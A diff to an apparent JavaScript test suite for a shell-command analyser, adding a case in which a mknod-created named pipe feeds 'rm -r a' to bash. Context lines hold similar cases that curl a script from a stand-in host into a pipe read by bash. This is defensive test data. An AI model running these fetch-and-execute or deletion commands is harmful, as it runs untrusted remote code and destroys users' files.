@@ -41,6 +41,7 @@ describe('a named pipe gives a shell what others write to it, perhaps later', ()
     ['mkfifo p; curl -s https://x.test/i.sh > p & bash < p', 'execute host:https://x.test/i.sh'],
     ['mkfifo p; bash p & curl -s https://x.test/i.sh > p', 'execute ?'],
     ["mkfifo p; bash < p & echo 'rm -r a' > p", 'execute ?'],
+    ["mknod q p; bash q & echo 'rm -r a' > q", 'execute ?'],
   ])('%s', async (command, expected) => {
     expect(await told(command)).toContain(expected);
   });
